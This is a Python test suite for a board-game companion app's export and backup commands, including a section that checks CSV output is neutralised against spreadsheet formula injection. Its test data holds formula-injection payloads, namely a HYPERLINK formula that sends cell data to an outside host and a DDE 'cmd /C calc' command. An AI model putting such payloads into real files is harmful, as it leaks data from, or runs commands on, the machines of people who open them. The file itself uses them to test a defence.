"""`companion export` and `companion backup` (issue 12, part 5), and the host key line of `serve`.

Real tables of two games are finished through the API (their calculators are the quickest way
to the end); every exported field is compared with `results.result` of the table itself. A backup
is taken while a real server process writes, restored into a new data folder and served again.
"""

from __future__ import annotations

import csv
import io
import json
import sqlite3
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest

from companion import cli, create_app, db as database, export, hostkey, results, tables
from companion.games import registry
from tests.examples import create_doc, examples


#: the CSV's first columns, as the contract lists them (written out here, not read from the code)
FIXED = ["table", "game", "finished_at", "player", "place", "winner", "total"]
SPECIALTIES = ("typesetting", "woodcutting", "binding", "illuminating")
#: a name the CSV must quote (a comma and quotes) and one beyond ASCII
ODD_NAME = 'Zoë "Z", Jr'


def gutenberg_row(fame, guilders, specialties, patronage, types, inks):
    return {"fame": fame, "guilders": guilders, "specialties": dict(zip(SPECIALTIES, specialties)),
            "patronage_cards": patronage, "types": types, "inks": inks}


def finish_gutenberg(api, names, rows):
    t = api.create("gutenberg", names, calculator=True)
    for seat, row in enumerate(rows):
        r = api.event(t, "sheet", dict(row, player=seat))
        assert r.status_code == 200, r.get_json()
    assert r.get_json()["state"]["finished"]
    return t


def finish_codex(api, names, rows):
    t = api.create("codex", names, calculator=True)
    assert api.event(t, "common_objectives", {"cards": [91, 102]}).status_code == 200
    for seat, row in enumerate(rows):
        r = api.event(t, "sheet", dict(row, player=seat))
        assert r.status_code == 200, r.get_json()
    assert r.get_json()["state"]["finished"]
    return t


@pytest.fixture
def played(app, api):
    """Four finished tables of two games, oldest first, and one table still being played."""
    finished = [
        finish_gutenberg(api, ["Anna", ODD_NAME], [gutenberg_row(62, 7, (4, 2, 3, 1), 2, 6, 2),
                                                   gutenberg_row(72, 9, (5, 3, 2, 0), 2, 7, 1)]),
        finish_codex(api, ["Ben", "Cleo"], [
            {"placement_points": 21, "secret": 99, "visible": {"quill": 3, "inkwell": 2, "manuscript": 1}, "patterns": {"91": 1}},
            {"placement_points": 18, "secret": 88, "visible": {"quill": 4}, "patterns": {"91": 1, "88": 2}}]),
        # the same totals: the tie-break (fewer types) decides, so exactly one of them is the winner
        finish_gutenberg(api, ["Tom", "Kate", "Dan"], [gutenberg_row(60, 6, (3, 3, 3, 3), 1, 5, 1),
                                                       gutenberg_row(60, 6, (3, 3, 3, 3), 1, 4, 1),
                                                       gutenberg_row(40, 2, (1, 0, 0, 0), 0, 9, 0)]),
        finish_codex(api, ["Dan", "Eve", "Fay"], [
            {"placement_points": 25, "secret": 96, "visible": {"quill": 2, "plant": 7}, "patterns": {"91": 0}},
            {"placement_points": 20, "secret": 101, "visible": {"quill": 0, "inkwell": 5}, "patterns": {"91": 0}},
            {"placement_points": 9, "secret": 99, "visible": {"quill": 1, "inkwell": 1, "manuscript": 2}, "patterns": {"91": 2}}]),
    ]
    open_table = api.create("gutenberg", ["Gus", "Hal"], calculator=True)
    assert api.event(open_table, "sheet", dict(gutenberg_row(50, 1, (1, 1, 1, 1), 1, 1, 1), player=0)).status_code == 200
    path = Path(app.config["DATABASE"])
    conn = database.connect(path)
    try:
        # finished_at keeps milliseconds: the order of finishing is the order in the database
        order = [r[0] for r in conn.execute("SELECT id FROM tables WHERE finished_at IS NOT NULL ORDER BY finished_at, id")]
        assert order == [t["table"] for t in finished]
        expected = [results.result(tables.load(conn, t["table"])) for t in finished]
    finally:
        conn.conn.close()
    return {"folder": path.parent, "expected": expected, "open": open_table["table"], "tables": finished}


def breakdown_keys(expected):
    keys = []
    for doc in expected:
        for player in doc["players"]:
            keys += [k for k in player["breakdown"] if k not in keys]
    return keys


def check_json(text, expected):
    doc = json.loads(text)
    assert list(doc) == ["plays"]
    assert doc["plays"] == expected  # every field, in the order the games finished


def as_text(value: str) -> str:
    """A text cell as the CSV writes it: OWASP's leading quote where a spreadsheet would see a
    formula (issue 27); a random table id starts with '-' once in 64."""
    return "'" + value if value[:1] in ("=", "+", "-", "@", "\t", "\r") else value


def check_csv(text, expected):
    reader = csv.DictReader(io.StringIO(text, newline=""))
    keys = breakdown_keys(expected)
    assert reader.fieldnames == FIXED + [f"breakdown.{k}" for k in keys]
    rows = list(reader)
    assert len(rows) == sum(len(doc["players"]) for doc in expected)
    rows = iter(rows)
    for doc in expected:
        for player in doc["players"]:
            row = next(rows)
            assert row["table"] == as_text(doc["table"]) and row["game"] == doc["game"] and row["finished_at"] == doc["finished_at"]
            assert row["player"] == as_text(player["name"])
            assert int(row["place"]) == player["place"] and int(row["total"]) == player["total"]
            assert row["winner"] == ("true" if player["name"] in doc["winners"] else "false")
            for key in keys:
                assert row[f"breakdown.{key}"] == (str(player["breakdown"][key]) if key in player["breakdown"] else ""), key


def export_cli(capsys, *args):
    status = cli.main(["export", *args])
    out, err = capsys.readouterr()
    return status, out, err


# --- export -----------------------------------------------------------------------------------

def test_export_json_and_csv_give_every_field_of_every_finished_table(played, capsys):
    expected = played["expected"]
    games = {doc["game"] for doc in expected}
    assert games == {"gutenberg", "codex"}
    # the fixture's plays test what they should: a quoted name, a tie-break, keys only one game has
    assert any(p["name"] == ODD_NAME for doc in expected for p in doc["players"])
    tie = expected[2]
    assert tie["players"][0]["total"] == tie["players"][1]["total"] and len(tie["winners"]) == 1
    assert len(breakdown_keys(expected)) > len(expected[0]["players"][0]["breakdown"])

    status, out, err = export_cli(capsys, "--data", str(played["folder"]))
    assert status == 0 and err == ""
    check_json(out, expected)
    status, out, err = export_cli(capsys, "--format", "csv", "--data", str(played["folder"]))
    assert status == 0 and err == ""
    check_csv(out, expected)
    assert played["open"] not in out


def test_export_to_a_file_through_the_installed_command(played, tmp_path):
    """The real `companion` script of this environment, as a user runs it."""
    command = Path(sys.executable).with_name("companion")
    assert command.exists(), command
    for fmt, check in (("csv", check_csv), ("json", check_json)):
        out = tmp_path / f"plays.{fmt}"
        proc = subprocess.run([str(command), "export", "--format", fmt, "--data", str(played["folder"]), "--output", str(out)],
                              capture_output=True, text=True, timeout=60)
        assert proc.returncode == 0, proc.stderr
        assert proc.stderr == ""
        written = out.read_text(encoding="utf-8")
        assert written.startswith("\ufeff") == (fmt == "csv")  # a byte-order mark for a spreadsheet (issue 27)
        check(written.removeprefix("\ufeff"), played["expected"])
        assert played["open"] not in out.read_text(encoding="utf-8")
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith("plays")) == ["plays.csv", "plays.json"]


def test_game_filters_and_an_unfinished_table_is_absent(played, capsys):
    for game in ("gutenberg", "codex"):
        status, out, _ = export_cli(capsys, "--game", game, "--data", str(played["folder"]))
        assert status == 0
        check_json(out, [doc for doc in played["expected"] if doc["game"] == game])
        status, out, _ = export_cli(capsys, "--game", game, "--format", "csv", "--data", str(played["folder"]))
        check_csv(out, [doc for doc in played["expected"] if doc["game"] == game])
    status, out, _ = export_cli(capsys, "--game", "voynich", "--data", str(played["folder"]))
    assert status == 0 and json.loads(out) == {"plays": []}
    status, out, _ = export_cli(capsys, "--game", "voynich", "--format", "csv", "--data", str(played["folder"]))
    assert out.splitlines() == [",".join(FIXED)]
    status, out, _ = export_cli(capsys, "--data", str(played["folder"]))
    assert played["open"] not in out


def test_the_functions_write_oldest_first_whatever_order_they_are_given(played):
    """The archive page's downloads call to_json and to_csv with its own list, which may be newest first."""
    expected = played["expected"]
    check_json(export.to_json(expected), expected)
    check_csv(export.to_csv(expected, bom=False), expected)
    later = [dict(doc, finished_at=f"2031-01-0{9 - i}T10:00:00Z") for i, doc in enumerate(expected)]  # newest first
    assert [doc["table"] for doc in json.loads(export.to_json(later))["plays"]] == [doc["table"] for doc in reversed(later)]
    check_csv(export.to_csv(later, bom=False), list(reversed(later)))


# --- bad input ----------------------------------------------------------------------------------

def listing(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.iterdir()) if folder.exists() else []


def test_bad_input_exits_2_with_one_line_and_writes_nothing(played, tmp_path, capsys):
    data = played["folder"]
    live = data / "companion.db"
    empty = tmp_path / "empty"
    empty.mkdir()
    a_file = tmp_path / "a-file"
    a_file.write_text("not a folder")
    out = tmp_path / "out"
    out.mkdir()
    before = {folder: listing(folder) for folder in (data, empty, out, tmp_path)}
    live_before = live.stat().st_size, live.stat().st_mtime_ns
    cases = [
        (["export", "--game", "chess", "--data", str(data), "--output", str(out / "x.json")], "game", out / "x.json"),
        (["export", "--format", "xml", "--data", str(data), "--output", str(out / "x.xml")], "format", out / "x.xml"),
        (["export", "--data", str(empty), "--output", str(out / "x.json")], "data", out / "x.json"),
        (["export", "--data", str(tmp_path / "nowhere")], "data", tmp_path / "nowhere"),
        (["export", "--data", str(data), "--output", str(tmp_path / "no-folder" / "x.csv")], "output", tmp_path / "no-folder"),
        (["export", "--data", str(data), "--output", str(a_file / "x.csv")], "output", a_file / "x.csv"),
        (["export", "--data", str(data), "--output", str(out)], "output", out / "companion.db"),
        (["export", "--data", str(data), "--output", str(live)], "output", None),
        (["export", "--data", str(data), "--output", str(data / "companion.db-wal")], "output", None),
        (["backup", str(out / "copy.db"), "--data", str(empty)], "data", out / "copy.db"),
        (["backup", str(out / "copy.db"), "--data", str(tmp_path / "nowhere")], "data", tmp_path / "nowhere"),
        (["backup", str(live), "--data", str(data)], "file", None),
        (["backup", str(data / ".." / data.name / "companion.db"), "--data", str(data)], "file", None),
        (["backup", str(tmp_path / "no-folder" / "copy.db"), "--data", str(data)], "file", tmp_path / "no-folder"),
        (["backup", str(a_file / "copy.db"), "--data", str(data)], "file", a_file / "copy.db"),
        (["backup", str(out), "--data", str(data)], "file", out / "companion.db"),
    ]
    for argv, field, absent in cases:
        status = cli.main(argv)
        stdout, stderr = capsys.readouterr()
        assert status == 2, (argv, stderr)
        assert stdout == "", argv
        lines = stderr.splitlines()
        assert len(lines) == 1 and lines[0].startswith(f"error: {field}: "), (argv, stderr)
        assert len(lines[0]) > len(f"error: {field}: ") + 10, stderr
        if absent is not None:
            assert not absent.exists(), (argv, absent)
        for folder, names in before.items():
            assert listing(folder) == names, (argv, folder)
        assert not (empty / "companion.db").exists()
    assert (live.stat().st_size, live.stat().st_mtime_ns) == live_before
    assert listing(empty) == []


def test_an_unknown_format_is_one_line_from_the_real_command(played, tmp_path):
    proc = subprocess.run([str(Path(sys.executable).with_name("companion")), "export", "--format", "xml",
                           "--data", str(played["folder"])], capture_output=True, text=True, timeout=60)
    assert proc.returncode == 2 and proc.stdout == ""
    assert proc.stderr.splitlines() == ["error: format: must be json or csv, not 'xml'"]


def test_a_failed_write_leaves_the_old_file_and_no_temporary_one(played, tmp_path, monkeypatch, capsys):
    """An export or backup that fails at its last step (a full disk, say) keeps what was there."""
    old_export = tmp_path / "plays.json"
    old_export.write_text("yesterday's export")
    old_backup = tmp_path / "copy.db"
    old_backup.write_bytes(b"yesterday's backup")

    def full_disk(src, dst):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(export.os, "replace", full_disk)
    status = cli.main(["export", "--data", str(played["folder"]), "--output", str(old_export)])
    assert status == 2 and capsys.readouterr().err.startswith("error: output: cannot write")
    status = cli.main(["backup", str(old_backup), "--data", str(played["folder"])])
    assert status == 2 and capsys.readouterr().err.startswith("error: file: cannot write")
    assert old_export.read_text() == "yesterday's export" and old_backup.read_bytes() == b"yesterday's backup"
    assert sorted(p.name for p in tmp_path.iterdir() if p.name != "data") == ["copy.db", "plays.json"]


def test_backup_refuses_a_stale_journal_beside_the_copy(played, tmp_path):
    """SQLite would replay an old -wal onto the new copy: better to say so than to corrupt it."""
    (tmp_path / "copy.db-wal").write_bytes(b"left by an old program")
    with pytest.raises(export.Refused) as refused:
        export.backup(played["folder"] / "companion.db", tmp_path / "copy.db")
    assert refused.value.field == "file" and not (tmp_path / "copy.db").exists()


# --- backup while a server writes ----------------------------------------------------------------

@pytest.fixture
def unlimited_server(tmp_path):
    """A real `companion serve` whose client may make as many requests as it can (`--request-limit
    off`): this test's writer posts events in a tight loop, as no phone does, and met the limit."""
    from tests.conftest import Server

    made = Server(data=tmp_path / "srv", args=("--request-limit", "off")).start()
    try:
        yield made
    finally:
        made.stop()


@pytest.mark.slow
def test_backup_while_the_server_writes_restores_every_table(unlimited_server, tmp_path):
    """A real `companion serve` process takes events from a thread while `companion backup` copies the file."""
    server = unlimited_server
    made = [server.api("/api/v1/tables", create_doc(game, examples(game).PLAYERS)) for game in registry()]
    acknowledged = {t["table"]: t["version"] for t in made}
    stop = threading.Event()
    errors = []

    def write():
        i = 0
        try:
            while not stop.is_set():
                t = made[i % len(made)]
                answer = server.api(f"/api/v1/tables/{t['table']}/events",
                                    {"type": "rename", "data": {"player": i % 2, "name": f"N{i}"},
                                     "expected_version": acknowledged[t["table"]]}, t["token"])
                acknowledged[t["table"]] = answer["version"]
                i += 1
        except Exception as exc:  # pragma: no cover - reported below
            errors.append(exc)

    writer = threading.Thread(target=write, daemon=True)
    writer.start()
    copies = []
    try:
        for n in range(3):
            time.sleep(0.3)
            before = dict(acknowledged)  # acknowledged before the copy began: the copy must hold them
            dest = tmp_path / "backups" / f"copy-{n}.db"
            dest.parent.mkdir(exist_ok=True)
            proc = subprocess.run([str(Path(sys.executable).with_name("companion")), "backup", str(dest), "--data", str(server.data)],
                                  capture_output=True, text=True, timeout=60)
            assert proc.returncode == 0, proc.stderr
            copies.append((dest, before))
    finally:
        stop.set()
        writer.join(10)
    assert not errors, errors
    assert sum(acknowledged.values()) > sum(copies[0][1].values()) > 4  # the server was writing all along
    # each copy is one whole file: nothing beside it, nothing left half-written
    assert sorted(p.name for p in (tmp_path / "backups").iterdir()) == [f"copy-{n}.db" for n in range(3)]

    for n, (copy, before) in enumerate(copies):
        conn = sqlite3.connect(copy)
        assert conn.execute("PRAGMA integrity_check").fetchall() == [("ok",)]
        conn.close()
        restored = tmp_path / f"restored-{n}"
        restored.mkdir()
        (restored / "companion.db").write_bytes(copy.read_bytes())
        client = create_app({"TESTING": True, "DATA_DIR": str(restored)}).test_client()
        for t in made:
            answer = client.get(f"/api/v1/tables/{t['table']}", headers={"X-Table-Token": t["token"]})
            assert answer.status_code == 200, (n, t["table"])
            version = answer.get_json()["version"]
            assert version >= before[t["table"]], (n, version, before)
            log = client.get(f"/api/v1/tables/{t['table']}/events", headers={"X-Table-Token": t["token"]}).get_json()
            assert [e["seq"] for e in log] == list(range(1, version + 1))  # the log and the state agree
        # the host key travels with the backup (the archive's link keeps working on a restored folder)
        conn = database.connect(restored / "companion.db")
        live = database.connect(server.data / "companion.db")
        assert hostkey.host_key(conn) == hostkey.host_key(live)
        conn.conn.close()
        live.conn.close()

    # `serve` printed the host key with its address: the plays archive, for another device
    printed = [line for line in (server.data / "server.log").read_text().splitlines() if line.startswith("Plays archive, every play (your own devices alone, this one too): ")]
    live = database.connect(server.data / "companion.db")
    try:
        assert printed and printed[0].endswith(f"/plays#key={hostkey.host_key(live)}")
        assert printed[0].split(": ", 1)[1].startswith("http://") and f":{server.port}/plays#key=" in printed[0]
    finally:
        live.conn.close()


def test_a_backup_of_an_idle_file_is_one_file_that_serves_every_finished_table(played, tmp_path, capsys):
    copy = tmp_path / "copy.db"
    assert cli.main(["backup", str(copy), "--data", str(played["folder"])]) == 0
    said = capsys.readouterr().out
    assert str(copy) in said and "It carries the host key" in said  # whoever has the file has the key
    assert listing(tmp_path) == ["copy.db", "data"]
    restored = tmp_path / "restored"
    restored.mkdir()
    copy.rename(restored / "companion.db")
    status, out, _ = export_cli(capsys, "--data", str(restored))
    check_json(out, played["expected"])
    client = create_app({"TESTING": True, "DATA_DIR": str(restored)}).test_client()
    for t, doc in zip(played["tables"], played["expected"]):
        answer = client.get(f"/api/v1/tables/{t['table']}/result", headers={"X-Table-Token": t["token"]})
        assert answer.status_code == 200 and answer.get_json() == doc


# --- what a spreadsheet would run (issue 27, finding 17) ------------------------------------------

#: names a spreadsheet would take for a formula (OWASP's CSV injection list: = + - @), as players may type them
FORMULAS = ['=HYPERLINK("http://x.io/?"&D3,"Click")', "+1+cmd|' /C calc'!A0", "-3", "@SUM(A1:A9)"]
BOM = "\ufeff"


def spreadsheet_cells(text: str) -> list[list]:
    """The rows as a spreadsheet reads them: a quoted cell is text, an unquoted one a number."""
    assert text.startswith(BOM)
    lines = io.StringIO(text[len(BOM):], newline="")
    header = next(csv.reader([lines.readline()]))  # the column names, bare
    return [header, *csv.reader(lines, quoting=csv.QUOTE_NONNUMERIC)]


def neutral(cell) -> bool:
    """True when no spreadsheet runs the cell: a number, or text that does not start as a formula does."""
    return isinstance(cell, float) or not cell.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_the_csv_neutralises_every_cell_a_spreadsheet_would_run_and_keeps_numbers_numbers():
    """OWASP's advice: a text cell that starts with = + - @ tab or carriage return gets a leading
    single quote, and every text cell is quoted (a ';' cannot start a new cell in a spreadsheet
    that splits on it). A number is written as a number: a total of -3 is no formula."""
    names = [*FORMULAS, "\tTab", "\rCR", "Zoë"]
    doc = {"table": "-x3kP9aQ", "game": "gutenberg", "finished_at": "2026-12-03T21:14:05Z", "winners": ["Zoë"],
           "players": [{"name": name, "place": i + 1, "total": -3 - i, "breakdown": {"guilders": -3, "note": "=1+1"}}
                       for i, name in enumerate(names)]}
    text = export.to_csv([doc])
    header, *rows = spreadsheet_cells(text)
    assert header == [*FIXED, "breakdown.guilders", "breakdown.note"]
    assert len(rows) == len(names)
    for name, row in zip(names, rows):
        assert all(neutral(cell) for cell in row), row
        cells = dict(zip(header, row))
        assert cells["table"] == "'-x3kP9aQ"  # one table id in 64 starts with '-'
        assert cells["player"] == ("'" + name if name != "Zoë" else name)  # the name itself, after the quote
        assert cells["breakdown.note"] == "'=1+1"
        assert isinstance(cells["total"], float) and cells["total"] < 0 and isinstance(cells["place"], float)
        assert cells["breakdown.guilders"] == -3.0
    assert '"\'=HYPERLINK(""http://x.io/?""&D3,""Click"")"' in text


def test_the_csv_export_and_download_are_safe_to_open_and_keep_accents(app, api, tmp_path, capsys):
    """Names typed at the table, through `companion export --output`, its standard output and the
    archive's download: every cell neutral, "Zoë" intact behind a UTF-8 byte-order mark (Excel on
    Windows reads a file without one as its own code page) in the file and the download; standard
    output, which programs read, has none."""
    for names in (FORMULAS[:2], FORMULAS[2:] + ["Zoë"]):
        finish_gutenberg(api, names, [gutenberg_row(40 + i, 1, (1, 1, 1, 1), 1, 2, 1) for i, _ in enumerate(names)])
    folder = Path(app.config["DATABASE"]).parent
    out = tmp_path / "plays.csv"
    assert export_cli(capsys, "--format", "csv", "--data", str(folder), "--output", str(out))[0] == 0
    written = out.read_bytes()
    assert written.startswith(BOM.encode("utf-8")) and "Zoë".encode("utf-8") in written
    status, printed, _ = export_cli(capsys, "--format", "csv", "--data", str(folder))
    assert status == 0 and not printed.startswith(BOM) and BOM + printed == written.decode("utf-8")
    from tests.foundation.test_plays import host_client

    downloaded = host_client(app).get("/plays/export.csv").data
    assert downloaded == written
    header, *rows = spreadsheet_cells(written.decode("utf-8"))
    assert sorted(row[header.index("player")] for row in rows) == sorted(["'" + n for n in FORMULAS] + ["Zoë"])
    assert all(neutral(cell) for row in rows for cell in row)


def test_the_json_export_keeps_names_as_typed(app, api, capsys):
    """The JSON is data for programs, not a spreadsheet: no quote is added, no byte-order mark."""
    t = finish_gutenberg(api, FORMULAS[:2], [gutenberg_row(40, 1, (1, 1, 1, 1), 1, 2, 1), gutenberg_row(41, 1, (1, 1, 1, 1), 1, 2, 1)])
    status, printed, _ = export_cli(capsys, "--data", str(Path(app.config["DATABASE"]).parent))
    assert status == 0 and printed.startswith("{")  # no byte-order mark
    (doc,) = json.loads(printed)["plays"]
    assert doc["table"] == t["table"] and [p["name"] for p in doc["players"]] == FORMULAS[:2]
